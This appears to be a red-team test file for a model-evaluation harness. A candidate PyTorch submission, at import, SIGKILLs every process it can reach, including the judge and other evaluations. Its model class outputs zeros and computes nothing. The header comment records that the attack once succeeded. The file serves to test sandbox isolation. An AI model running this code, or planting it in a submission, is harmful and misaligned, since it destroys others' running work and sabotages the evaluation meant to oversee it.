# ATTACK ON PURPOSE (red team, class "signals"): the candidate's process signals every process it
# can: kill(-1), then every pid it finds in /proc (the zygote, other evaluations, the judge). At
# c44fc9a it ran as the same user with no PID namespace: it SIGKILLed the zygote, and a concurrent
# honest evaluation ended "could not evaluate".
import os
import signal

import torch
import torch.nn as nn

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass


class ModelNew(nn.Module):
    def __init__(self, num_features, scale, clamp_min, clamp_max):
        super().__init__()
        self.bias = nn.Parameter(torch.empty(num_features))

    def forward(self, x):
        return torch.zeros_like(x)
